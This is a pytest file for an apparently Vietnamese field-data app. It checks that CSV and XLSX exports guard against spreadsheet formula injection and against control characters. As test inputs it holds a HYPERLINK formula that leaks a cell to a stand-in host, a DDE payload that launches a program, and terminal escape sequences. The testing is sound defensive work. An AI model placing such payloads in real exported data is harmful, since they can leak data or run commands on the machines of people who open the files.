"""Formula injection and characters XML cannot hold (issue 10, findings 1 and 2): no exported cell is ever a formula
or breaks the XLSX writer, and our own export imports back to the same values."""

from __future__ import annotations

import csv
import re
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from typing import Any

import orjson
import pytest
from click.testing import Result
from openpyxl import load_workbook
from support.hostile import FORMULAS, HOSTILE

from fieldapp.core.cells import FORMULA_STARTS, cell_text, sheet_cell, sheet_text
from fieldapp.core.records import Enterprise, Visit
from fieldapp.io.export import export_data, visits_path
from fieldapp.io.importer import plan_import
from fieldapp.io.readers import read_table

Run = Callable[..., Result]
TODAY = date(2026, 11, 23)
#: what a cadre can type and the store keeps: each would run in a spreadsheet if written raw
NAMES = [
    '=HYPERLINK("http://x/?"&B2,"Bấm")',
    "+1",
    "-2",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "'=already quoted",
]
#: what only an older store can hold (the record rule strips or refuses them today)
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
OLD_NAMES = ["\t=1+1", "\r=1+1", "ctrl\x01\x1b[2J\x00end"]


def _cells(path: Path) -> Iterator[Any]:
    workbook = load_workbook(path)  # not read-only: only the full reader tells a formula from text
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            yield from row


def _csv_column(path: Path, column: str) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return [row[column] for row in csv.DictReader(fh)]


@pytest.mark.parametrize("text", [*NAMES, *FORMULAS, *HOSTILE, "'", "''=x", "a=b", "", "'plain"])
def test_every_text_reads_back_and_is_never_a_formula(text: str) -> None:
    written = sheet_text(text)
    assert written[:1] not in FORMULA_STARTS
    if NOT_XML.search(text):  # replaced, so that the XLSX writer can take it
        assert not NOT_XML.search(written) and "\ufffd" in written
    else:
        assert cell_text(written) == text


def test_numbers_stay_numbers_and_empty_is_empty() -> None:
    assert [sheet_cell(v) for v in (-2, 0, 3.5, None, True, False)] == [-2, 0, 3.5, "", "true", "false"]


def test_cli_export_csv_and_xlsx_import_back_with_the_same_names(
    run: Run, tmp_path: Path, data_dir: Path
) -> None:
    for name in NAMES:
        assert run("enterprise", "add", "--name", name, "--json").exit_code == 0, name
    stored = sorted(e["name"] for e in orjson.loads(run("enterprise", "list", "--json").stdout))
    assert stored == sorted(NAMES)
    csv_path, xlsx_path = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert run("export", "--format", "csv", "--output", str(csv_path)).exit_code == 0
    assert run("export", "--format", "xlsx", "--output", str(xlsx_path)).exit_code == 0

    names = _csv_column(csv_path, "name")
    assert sorted(names) == sorted(sheet_text(n) for n in NAMES)
    assert all(n.startswith("'") for n in names)  # every one of them is guarded, the quoted one too
    assert not [c.coordinate for c in _cells(xlsx_path) if c.data_type == "f"]
    sheet = load_workbook(xlsx_path, read_only=True)["enterprises"]
    rows = list(sheet.iter_rows(values_only=True))
    xlsx_names = [row[rows[0].index("name")] for row in rows[1:]]
    assert sorted(xlsx_names) == sorted(names)

    for path in (csv_path, xlsx_path):
        again = tmp_path / f"again-{path.suffix[1:]}"
        result = run("--data-dir", str(again), "import", str(path), "--json")
        assert result.exit_code == 0, result.output
        listed = run("--data-dir", str(again), "enterprise", "list", "--json")
        assert sorted(e["name"] for e in orjson.loads(listed.stdout)) == sorted(NAMES), path
        # into the folder it came from, every row is unchanged
        report = orjson.loads(run("import", str(path), "--json", "--dry-run").stdout)
        assert (report["unchanged"], report["invalid"]) == (len(NAMES), 0), path


def _old_records() -> tuple[list[tuple[Enterprise, dict[str, Any]]], list[Visit]]:
    enterprises = []
    for i, name in enumerate(OLD_NAMES):
        fresh = Enterprise.create(name=f"Công ty {i}", today=TODAY)
        enterprises.append(fresh.model_copy(update={"name": name, "ward": f"\x1b]0;pwned{i}\x1b\\"}))
    visit = Visit.create(
        enterprise_id=enterprises[0].id,
        visited_on=TODAY,
        cadre="nva",
        headcount=3,
        attitude="neutral",
        today=TODAY,
    )
    # a negative count (which the rule refuses today) is still a number in the sheet, not a formula
    visit = visit.model_copy(update={"note": "-2 người\x00\x0b", "cadre": "@nva", "headcount": -2})
    return [(e, {"status": "unknown", "reasons": [], "priority": "low"}) for e in enterprises], [visit]


def test_values_an_older_store_holds_never_break_the_xlsx_writer_nor_become_formulas(tmp_path: Path) -> None:
    rows, visits = _old_records()
    (path,) = export_data("xlsx", tmp_path / "old.xlsx", rows, visits)
    cells = list(_cells(path))
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    values = {c.value for c in cells}
    # (an XML reader turns the raw carriage return into a newline; the quote still leads)
    assert "'\r=1+1" in values or "'\n=1+1" in values
    assert {"'\t=1+1", "ctrl\ufffd\ufffd[2J\ufffdend", "'-2 người\ufffd\ufffd", "'@nva"} <= values
    assert -2 in values  # a number, not text and not a formula


def test_csv_export_of_older_values_guards_tab_and_carriage_return(tmp_path: Path) -> None:
    rows, visits = _old_records()
    files = export_data("csv", tmp_path / "old.csv", rows, visits)
    assert _csv_column(files[0], "name")[:2] == ["'\t=1+1", "'\r=1+1"]
    assert _csv_column(visits_path(files[0]), "headcount") == ["-2"]
    # on the way back in, the quote goes and the record rule cleans what is left: the names a cadre sees
    plan = plan_import(read_table(files[0]), None)
    assert not plan.invalid
    assert [e.name for _, e in plan.created] == ["=1+1", "=1+1", "ctrl\ufffd\ufffd[2J\ufffdend"]
    assert [e.ward for _, e in plan.created][0] == "\ufffd]0;pwned0\ufffd\\"
